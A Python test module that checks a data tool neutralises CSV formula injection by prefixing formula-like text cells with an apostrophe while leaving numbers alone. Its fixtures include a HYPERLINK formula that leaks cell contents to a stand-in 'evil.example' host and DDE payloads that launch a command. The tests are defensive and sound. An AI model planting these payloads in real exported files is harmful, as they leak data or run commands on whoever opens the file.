"""Every CSV ronr writes is safe to open in a spreadsheet (the ``formula-injection`` case).

Mention texts, authors and rejected values starting with ``=``, ``+``, ``-``, ``@`` (or a tab or
a carriage return) would run as formulas when an analyst opens the file in Excel, LibreOffice or
Google Sheets. OWASP's rule: prefix such a cell with ``'``. Writers covered: ``ronr ingest
--out`` (tables and rejects.csv, :func:`ronr.ingest.base.write_csv`) and the cache's
rejects.csv (:func:`ronr.store.load_workspace`). Numbers are never touched.
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from ronr.cli import app
from ronr.ingest.base import write_csv
from ronr.spreadsheet import FORMULA_STARTS, neutralise_formulas, safe_cell
from ronr.store import _load_cached, load_workspace
from tests.cases import case_path

CASE = case_path("formula-injection") / "mentions.csv"
# the case's texts, authors and the rejected kind, as the file holds them
TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def cells(path: Path) -> list[list[str]]:
    """Every row of ``path`` as Python's csv module reads it (the header first)."""
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def dangerous(value: str) -> bool:
    """Text a spreadsheet would run as a formula (a number like ``-3`` is a number)."""
    return value.startswith(FORMULA_STARTS) and not is_number(value)


def assert_safe(path: Path) -> list[list[str]]:
    """No cell of ``path`` starts like a formula; returns the rows."""
    rows = cells(path)
    assert rows, path
    width = len(rows[0])
    for row in rows:
        assert len(row) == width, (path, row)  # still a valid, rectangular CSV
        assert not [c for c in row if dangerous(c)], (path, row)
    return rows


def column(rows: list[list[str]], name: str) -> list[str]:
    at = rows[0].index(name)
    return [row[at] for row in rows[1:]]


def test_safe_cell_follows_owasp():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    for fine in ("plain", "", "a=b", "'=already quoted", " =spaced", "#tag"):
        assert safe_cell(fine) == fine
    for number in (-3, -1.5, 0):
        assert safe_cell(number) == number


def test_only_text_cells_are_prefixed_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "text": pd.Series(["=1+1", "-minus", "ok", None], dtype="object"),
            "string": pd.Series(["@me", "+1", "x", None], dtype="string"),
            "count": [-3, 4, -5, 6],
            "rate": [-1.5, 0.5, float("nan"), 2.0],
            "kind": pd.Categorical(["=k", "mention", "=k", "mention"]),
            "when": pd.to_datetime(["2025-03-01"] * 4, utc=True),
        }
    )
    safe = neutralise_formulas(frame)
    assert safe["text"].tolist()[:3] == ["'=1+1", "'-minus", "ok"] and safe["text"].isna()[3]
    assert safe["string"].tolist()[:3] == ["'@me", "'+1", "x"] and safe["string"].isna()[3]
    assert safe["string"].dtype == frame["string"].dtype
    assert safe["kind"].tolist() == ["'=k", "mention", "'=k", "mention"]
    pd.testing.assert_series_equal(safe["count"], frame["count"])
    pd.testing.assert_series_equal(safe["rate"], frame["rate"])
    pd.testing.assert_series_equal(safe["when"], frame["when"])
    assert frame["text"][0] == "=1+1"  # the caller's frame is left as it was


def test_write_csv_prefixes_text_keeps_numbers_and_line_breaks(tmp_path):
    frame = pd.DataFrame(
        {"text": ["=1+1", "\rline", "-x\r\ny", "plain"], "n": [-3, -4, 5, 6], "r": [-0.5] * 4}
    )
    path = tmp_path / "t.csv"
    write_csv(frame, path)
    rows = assert_safe(path)
    assert rows[1:] == [
        ["'=1+1", "-3", "-0.5"],
        ["'\rline", "-4", "-0.5"],
        ["'-x\r\ny", "5", "-0.5"],
        ["plain", "6", "-0.5"],
    ]
    back = pd.read_csv(path)
    assert back["n"].tolist() == [-3, -4, 5, 6] and back["n"].dtype.kind == "i"
    assert back["r"].tolist() == [-0.5] * 4


def ingest_out(source: Path, out: Path, *args: str) -> None:
    done = CliRunner().invoke(app, ["ingest", str(source), "--out", str(out), *args])
    assert done.exit_code == 0, done.output


def test_ingest_out_of_the_case_prefixes_every_formula_cell(tmp_path):
    source = tmp_path / "mentions.csv"
    shutil.copyfile(CASE, source)
    out = tmp_path / "out"
    ingest_out(source, out)
    mentions = assert_safe(out / "mentions.csv")
    assert column(mentions, "text") == ["'" + TEXTS[0]]
    assert column(mentions, "author") == ["'@made_up_user"]
    assert column(mentions, "source_row") == ["1"]
    rejects = assert_safe(out / "rejects.csv")
    assert column(rejects, "value") == ["not-a-kind", "'=1+1"]
    assert column(rejects, "row") == ["2", "3"]


def case_rows(tmp_path: Path, **columns: list[str]) -> Path:
    """The case's rows with a valid kind (and ``columns`` replaced), as a file to import."""
    frame = pd.read_csv(CASE, dtype=str, keep_default_na=False)
    assert frame["text"].tolist() == TEXTS
    frame["kind"] = "mention"
    for name, values in columns.items():
        frame[name] = values
    source = tmp_path / "mentions.csv"
    frame.to_csv(source, index=False)
    return source


def test_ingest_out_with_every_text_of_the_case_accepted(tmp_path):
    out = tmp_path / "out"
    ingest_out(case_rows(tmp_path, author_followers=["3", "12", "7"]), out)
    mentions = assert_safe(out / "mentions.csv")
    assert column(mentions, "text") == ["'" + text for text in TEXTS]
    assert column(mentions, "author") == [
        "'@made_up_user",
        "'+cmd|' /C calc'!A0",
        "'@made_up_user2",
    ]
    assert column(mentions, "author_followers") == ["3", "12", "7"]
    assert column(mentions, "source_row") == ["1", "2", "3"]
    back = pd.read_csv(out / "mentions.csv", keep_default_na=False)
    assert back["text"].tolist() == ["'" + text for text in TEXTS]  # valid CSV, quotes intact


def test_ingest_out_rejected_values_are_prefixed_as_text(tmp_path):
    out = tmp_path / "out"
    ingest_out(
        case_rows(tmp_path, author_followers=["-5", "12", "7"], engagements=["", "@2", ""]), out
    )
    rejects = assert_safe(out / "rejects.csv")
    # a rejected value is text as the file held it: "-5" in the value column is prefixed
    assert column(rejects, "value") == ["'-5", "'@2"]
    assert column(rejects, "row") == ["1", "2"]
    mentions = assert_safe(out / "mentions.csv")
    assert column(mentions, "text") == ["'" + TEXTS[2]]


@pytest.fixture
def fi_client(tmp_path):
    client = tmp_path / "clients" / "mini-formula"
    (client / "exports").mkdir(parents=True)
    shutil.copyfile(CASE, client / "exports" / "mentions.csv")
    (client / "client.yaml").write_text(
        "client: mini-formula\n"
        "display_name: Formula injection (synthetic)\n"
        'brand: {name: Acme, handles: ["@acme"]}\n'
        "period: {start: 2025-03-01, end: 2025-03-31}\n",
        encoding="utf-8",
    )
    _load_cached.cache_clear()
    yield tmp_path
    _load_cached.cache_clear()


def test_the_cache_rejects_csv_prefixes_every_formula_cell(fi_client):
    ws = load_workspace("mini-formula", data_dir=fi_client)
    path = fi_client / "cache" / "mini-formula" / "rejects.csv"
    rows = assert_safe(path)
    assert "'=1+1" in column(rows, "value")
    assert all(row.isdigit() for row in column(rows, "row"))
    # the cache itself keeps the texts as they were: only the spreadsheet file is prefixed
    assert "=1+1" in ws.rejects["value"].tolist()
